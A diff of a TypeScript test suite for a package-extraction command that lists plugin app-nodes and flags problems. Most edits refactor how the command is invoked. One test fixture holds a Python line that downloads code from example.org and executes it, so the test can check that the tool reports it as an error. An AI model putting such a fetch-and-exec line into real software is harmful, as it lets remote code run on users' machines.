@@ -3,6 +3,7 @@ import { mkdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { suite, test } from 'node:test';
 import { zip } from '../support/build.ts';
+import { runCommandHere } from '../support/run-command-here.ts';
 import { runCommand } from '../support/run-command.ts';
 import { temporaryFolder } from '../support/temporary-folder.ts';
 
@@ -19,14 +20,13 @@ suite('npm run extract', () => {
     for (const [name, text] of Object.entries(files)) await writeFile(join(folder, 'package', name), text);
     await writeFile(join(folder, 'package', '.git', 'config'), 'not published');
     await writeFile(join(folder, 'package.zip'), await zip(files));
-    const [ofFolder, ofZip] = await Promise.all(
-      ['package', 'package.zip'].map((name) => runCommand('extract', [join(folder, name)], {})),
-    );
-    assert.equal(ofFolder?.code, 0, ofFolder?.stderr);
-    assert.match(ofFolder?.stdout ?? '', /^Blur +image\/filter +run$/m);
-    assert.match(ofFolder?.stdout ?? '', /1 app-nodes; extraction success, confidence 1; checks: passed/);
-    assert.equal(ofZip?.stdout, ofFolder?.stdout);
-    const json = await runCommand('extract', [join(folder, 'package.zip'), '--json'], {});
+    const ofFolder = await runCommand('extract', [join(folder, 'package')], {});
+    assert.equal(ofFolder.code, 0, ofFolder.stderr);
+    assert.match(ofFolder.stdout, /^Blur +image\/filter +run$/m);
+    assert.match(ofFolder.stdout, /1 app-nodes; extraction success, confidence 1; checks: passed/);
+    const ofZip = await runCommandHere(['extract', join(folder, 'package.zip')], {});
+    assert.equal(ofZip.stdout, ofFolder.stdout);
+    const json = await runCommandHere(['extract', join(folder, 'package.zip'), '--json'], {});
     assert.deepEqual(JSON.parse(json.stdout).appNodes, [
       { app_node_name: 'Blur', category: 'image/filter', function: 'run', policy: 'AppNodePolicyActive' },
     ]);
@@ -38,7 +38,7 @@ suite('npm run extract', () => {
       join(folder, '__init__.py'),
       'import requests\nexec(requests.get("https://example.org").text)\n',
     );
-    const result = await runCommand('extract', [folder], {});
+    const result = await runCommandHere(['extract', folder], {});
     assert.equal(result.code, 1);
     assert.match(result.stdout, /^error {3}__init__\.py:2 {2}/m);
   });
@@ -47,7 +47,7 @@ suite('npm run extract', () => {
     const folder = await temporaryFolder(t);
     const source = 'class Blur:\n    pass\n\n\nNODE_CLASS_MAPPINGS = {"Blur": Blur}\n';
     await writeFile(join(folder, '__init__.py'), source.padEnd(2 * 2 ** 20 + 1, '#'));
-    const { stdout } = await runCommand('extract', [folder, '--json'], {});
+    const { stdout } = await runCommandHere(['extract', folder, '--json'], {});
     const { status, confidence, problems } = JSON.parse(stdout);
     assert.deepEqual(
       { status, confidence, problems },
@@ -62,8 +62,11 @@ suite('npm run extract', () => {
   test('what cannot be read is said in one line', async (t) => {
     const folder = await temporaryFolder(t);
     await writeFile(join(folder, 'package.zip'), 'not a zip');
-    for (const args of [[], [join(folder, 'none')], [join(folder, 'package.zip')]]) {
-      const result = await runCommand('extract', args, {});
+    const none = await runCommand('extract', [], {});
+    assert.equal(none.code, 1);
+    assert.match(none.stderr, /^patchbay: .*\n$/);
+    for (const path of ['none', 'package.zip']) {
+      const result = await runCommandHere(['extract', join(folder, path)], {});
       assert.equal(result.code, 1);
       assert.match(result.stderr, /^patchbay: .*\n$/);
     }
